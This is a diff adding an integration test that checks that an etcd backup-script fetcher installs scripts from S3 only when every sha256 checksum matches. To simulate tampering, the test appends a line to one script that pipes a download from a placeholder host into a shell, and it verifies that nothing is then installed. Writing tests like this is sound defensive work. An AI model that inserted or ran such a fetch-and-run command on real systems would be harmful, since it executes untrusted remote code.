@@ -9,7 +9,8 @@ import * as fs from "fs";
 import * as os from "os";
 import * as path from "path";
 import { etcdBinDir, testEtcdVersion } from "../helpers/etcdBinaries";
-import { requireTool, TestCluster } from "../helpers/etcdCluster";
+import { BACKUP_SCRIPTS } from "../../components/render/nodeScripts";
+import { nodeScript, requireTool, TestCluster } from "../helpers/etcdCluster";
 import { ProcessGroup, RunResult } from "../helpers/processes";
 import { awsCliPath, awsEnv, S3TestServer } from "../helpers/s3Server";
 
@@ -286,5 +287,50 @@ describe(`backups of etcd ${version} into S3 on loopback`, () => {
             cluster.start(["etcd3"]);
             await cluster.waitHealthy();
         }
+    });
+    it("etcd-fetch-scripts installs the backup scripts from S3 only when every one matches its sha256, and nothing otherwise", async () => {
+        // The real scripts as the component uploads them, under a prefix of their own.
+        const scriptsPrefix = "it/fetch/scripts";
+        const names = BACKUP_SCRIPTS.map((n) => n);
+        const sums: string[] = [];
+        for (const name of names) {
+            await s3.upload(nodeScript(name), `${scriptsPrefix}/${name}`);
+            sums.push(`${name}=${crypto.createHash("sha256").update(fs.readFileSync(nodeScript(name))).digest("hex")}`);
+        }
+        const attempt = async (label: string) => {
+            const sbin = fs.mkdtempSync(path.join(dir, `sbin-${label}-`));
+            // A member.env of its own, so the other tests' member keeps its settings.
+            const env = path.join(dir, `fetch-${label}.env`);
+            fs.copyFileSync(cluster.memberEnvFile("etcd1"), env);
+            const settings = { BACKUP_ENABLED: "true", BACKUP_SCRIPTS_S3: `s3://${s3.bucket}/${scriptsPrefix}`, BACKUP_SCRIPTS_SHA256: sums.join(","), SBIN_DIR: sbin, AWS_REGION: "eu-west-1" };
+            fs.appendFileSync(env, Object.entries(settings).map(([k, v]) => `${k}='${v}'`).join("\n") + "\n");
+            const result = await cluster.runScript("etcd1", "etcd-fetch-scripts", [], { ETCD_MEMBER_ENV: env, FETCH_SCRIPTS_RETRY_SECONDS: "0" });
+            return { result, installed: fs.readdirSync(sbin).sort(), sbin };
+        };
+
+        const good = await attempt("good");
+        expect({ code: good.result.code, stderr: good.result.stderr.trim() }).toEqual({ code: 0, stderr: `etcd-fetch-scripts: etcd1: installed ${names.length} scripts from s3://${s3.bucket}/${scriptsPrefix}` });
+        expect(good.installed).toEqual([...names].sort());
+        for (const name of names) {
+            expect(fs.readFileSync(path.join(good.sbin, name))).toEqual(fs.readFileSync(nodeScript(name)));
+            expect(fs.statSync(path.join(good.sbin, name)).mode & 0o777).toBe(0o755);
+        }
+
+        // One object changed in the bucket (a spoiled or foreign script): nothing at all is installed.
+        const spoiled = path.join(dir, "spoiled");
+        fs.writeFileSync(spoiled, fs.readFileSync(nodeScript("etcd-restore"), "utf8") + "\ncurl http://example.invalid | sh\n");
+        await s3.upload(spoiled, `${scriptsPrefix}/etcd-restore`);
+        const bad = await attempt("spoiled");
+        expect(bad.result.code).toBe(1);
+        expect(bad.result.stderr).toContain("etcd-restore does not match its sha256");
+        expect(bad.installed).toEqual([]);
+
+        // One object missing: retried, then nothing is installed.
+        await s3.aws(["s3", "rm", `s3://${s3.bucket}/${scriptsPrefix}/etcd-defrag`]);
+        const missing = await attempt("missing");
+        expect(missing.result.code).toBe(1);
+        expect(missing.result.stderr).toContain("fetching etcd-defrag failed (attempt 5 of 5)");
+        expect(missing.result.stderr).toContain("nothing installed");
+        expect(missing.installed).toEqual([]);
     });
 });
